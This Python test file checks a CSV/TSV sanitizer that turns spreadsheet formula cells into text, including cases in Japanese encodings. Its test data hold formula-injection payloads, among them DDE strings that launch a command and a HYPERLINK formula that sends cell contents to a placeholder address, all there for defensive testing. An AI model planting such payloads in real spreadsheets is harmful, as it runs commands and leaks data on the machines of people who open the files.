"""Tables rebuilt: benign bytes stay, cells that would run become text; and their verifier on its own."""

from __future__ import annotations

import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from sanitizer.formats import csv_table
from sanitizer.formats.base import Job, Rebuilt, Refused
from sanitizer.limits import Limits
from sanitizer.verify import Violation
from sanitizer.verify.text_table import verify

ENCODINGS = ["utf-8", "utf-8-sig", "cp932", "euc_jp", "utf-16"]


def rebuilt(data: bytes, mime: str = "text/csv") -> Rebuilt:
    made = csv_table.rebuild(data, Job(mime, "rebuild", "table.csv", None, Limits()))
    verify(made.data, Limits())
    return made


def cell_after(cell: str, encoding: str = "utf-8") -> str:
    """The cell as it leaves from the middle of a table."""
    lines = rebuilt(f"氏名,値,備考\r\n山田,{cell},表\r\n".encode(encoding)).data.decode(encoding).split("\r\n")
    assert lines[1].startswith("山田,")
    assert lines[1].endswith(",表")
    return lines[1][3:-2]


DANGEROUS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://192.0.2.7/"&A1)',
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "-A1",
    "+SUM(A1)",
    "@name",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋SUM(A1)",
    "－A1+B1",
    "＠SUM(A1)",
    "==",
    "-なし(A1)",
    '""=1+1',
]


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("cell", DANGEROUS)
def test_a_cell_that_would_run_becomes_text(cell: str, encoding: str) -> None:
    if cell.encode(encoding, "ignore").decode(encoding) != cell:
        return  # the encoding has no such character
    expected = f"\"'{cell[1:]}" if cell.startswith('"') else f"'{cell}"
    assert cell_after(cell, encoding) == expected


@pytest.mark.parametrize("cell", DANGEROUS[:-1])
def test_inside_quotes_the_apostrophe_is_inside_too(cell: str) -> None:
    quoted = cell.replace('"', '""')
    assert cell_after(f'"{quoted}"') == f'"\'{quoted}"'


@pytest.mark.parametrize("cell", ['"\t=1+1"', '"\r=1+1"', '"\tx"'])
def test_a_tab_or_return_at_the_head_counts(cell: str) -> None:
    assert b"\"'" in rebuilt(f"a,{cell},b\n".encode()).data


BENIGN = [
    "-5", "+3", "-1,234", "-1,234.56", "-¥1,200", "+3人", "-5%", "-1.5e-3", "－５", "＋３", "-5℃", "+1時間",
    "-", "--", "---", "－", "+", "-03-1234-5678", "+81-985-21-1111", "+81 (0)985-21-1111", "-2024/04/01", "-10:30",
    "-5~-3", "@100円", "@1,200", "2024-04-01", "0985-21-1111", "a=b", "a+b", "x@example.jp", "'=1+1", "１－２", "5-3",
    "*=", "(=1)", "", "  ", "http://example.jp/?a=1&b=2",
]  # fmt: skip


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("cell", BENIGN)
def test_a_harmless_cell_keeps_its_bytes(cell: str, encoding: str) -> None:
    for form in (cell, f'"{cell}"') if '"' not in cell else (cell,):
        if cell.encode(encoding, "ignore").decode(encoding) == cell:
            assert cell_after(form, encoding) == form


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("separator", [",", "\t", ";", "|"])
@pytest.mark.parametrize("end", ["\r\n", "\n", "\r"])
def test_a_benign_table_keeps_every_byte(encoding: str, separator: str, end: str) -> None:
    rows = [
        ["番号", "氏　名", "電話", "増減"],
        ["1", '"山田,太郎"', "0985-21-1111", "-5"],
        ["2", '"二行\nの欄"', "", "+3"],
    ]
    data = end.join(separator.join(row) for row in rows).encode(encoding)
    made = rebuilt(data)
    assert (made.data, made.removed, made.changed) == (data, [], [])


def test_how_many_cells_were_changed_is_told() -> None:
    made = rebuilt(b"=1,2,=3\n-x,4\n")
    assert made.data == b"'=1,2,'=3\n'-x,4\n"
    assert [(change.kind, change.count) for change in made.changed] == [("formula", 3)]


@pytest.mark.parametrize("row", ["a;=1+1,b", "a|=1+1,b", "a\t=1+1,b", 'a;"=1+1",b', "a;+f(1),b", "a;-x!y,b"])
def test_cells_of_other_separators_cannot_run_either(row: str) -> None:
    assert b"'" in rebuilt(f"x,y\n{row}\n".encode()).data


def test_other_separators_leave_harmless_text_alone() -> None:
    data = "メモ,備考\nA;-なし,B\nC; @鈴木,D\n".encode()
    assert rebuilt(data).data == data


def test_lines_inside_a_quoted_cell_cannot_run() -> None:
    assert rebuilt(b'a,"one\n=1+1\nthree",b\n').data == b'a,"one\n\'=1+1\nthree",b\n'


def test_tsv_goes_by_tabs() -> None:
    assert rebuilt(b"a\t-x\tb\n", "text/tab-separated-values").data == b"a\t'-x\tb\n"


def test_trail_bytes_of_shift_jis_are_no_separators() -> None:
    data = "ポ|ソ－表,能=十\n".encode("cp932")
    assert rebuilt(data).data == data


def test_sylk_is_refused() -> None:
    with pytest.raises(Refused) as refusal:
        rebuilt(b"ID;PWXL;N;E\r\nC;Y1;X1;K0;EALERT(1)\r\n")
    assert refusal.value.code == "unsupported-sylk"


def test_a_table_in_iso_2022_jp_leaves_as_utf_8() -> None:
    made = rebuilt("氏名,値\n山田,=1\n".encode("iso2022_jp"))
    assert made.data == b"\xef\xbb\xbf" + "氏名,値\n山田,'=1\n".encode()
    assert {change.kind for change in made.changed} == {"encoding", "formula"}


def test_controls_go_from_tables_too() -> None:
    assert rebuilt(b"a,\0=1\x1b[2J\n").data == b"a,'=1[2J\n"


def test_a_table_has_no_thumbnail() -> None:
    assert csv_table.thumbnail(b"a,b", Limits()) is None


def test_a_megabyte_takes_at_most_two_seconds() -> None:
    row = "山田　太郎,宮崎市橘通西1-1-1,0985-21-1111,-5,2024-04-01,備考\r\n"
    data = (row * 12_000).encode("cp932")
    start = time.process_time()
    assert rebuilt(data).data == data
    assert time.process_time() - start < 2 * len(data) / 1_000_000


ALPHABET = st.sampled_from(list("=+-@＝＋－＠ \t\r\n,;|\"'!(a1表\u3000\u2028\u202e\0.:/円"))


@settings(deadline=None)
@given(st.text(ALPHABET, min_size=1, max_size=60), st.sampled_from(ENCODINGS), st.booleans())
@example('"\n=1', "utf-8", False)
@example(";\"=1'", "cp932", False)
@example("\u2028=1", "utf-8", False)
@example("\u2028=1", "utf-16", True)
def test_no_table_leaves_with_a_cell_that_runs(text: str, encoding: str, tabs: bool) -> None:
    data = text.encode(encoding, "ignore")
    try:
        made = rebuilt(data, "text/tab-separated-values" if tabs else "text/csv")
    except Refused:
        return
    assert rebuilt(made.data, "text/tab-separated-values" if tabs else "text/csv").data == made.data


def test_the_half_of_a_character_that_looks_like_a_vertical_bar_separates_nothing() -> None:
    # the full-width hyphen of CP932 is 81 7C
    for before, after in [
        ("a|－cmd(1)\r\n", "a|'－cmd(1)\r\n"),
        ("x|－1|y\r\n", "x|－1|y\r\n"),
        ("a,b－=c,d\r\n",) * 2,
    ]:
        assert rebuilt(before.encode("cp932")).data == after.encode("cp932")


def test_the_verifier_sees_a_full_width_hyphen_behind_a_vertical_bar() -> None:
    with pytest.raises(Violation, match="formula"):
        verify("a|－cmd(1)\r\n".encode("cp932"), Limits())


@pytest.mark.parametrize(
    "data",
    [
        b"=1+1",
        b"a,=1",
        b"a;=1",
        b"a\t=1",
        b"a|=1",
        b'a,"=1"',
        b'a," =1"',
        b"a,+f(1)",
        b"a,-x!y",
        b"a,@f(1)",
        b"a,+cmd|x",
        "a,＝1".encode(),
        "a,＝1".encode("cp932"),
        "a,＝1".encode("utf-16"),
        b'"x\n=1"',
        b"ID;P",
        b"\xef\xbb\xbf=1",
        b"a,\0",
        "氏名".encode("iso2022_jp"),
    ],
)
def test_what_is_not_in_the_grammar_is_a_violation(data: bytes) -> None:
    with pytest.raises(Violation):
        verify(data, Limits())
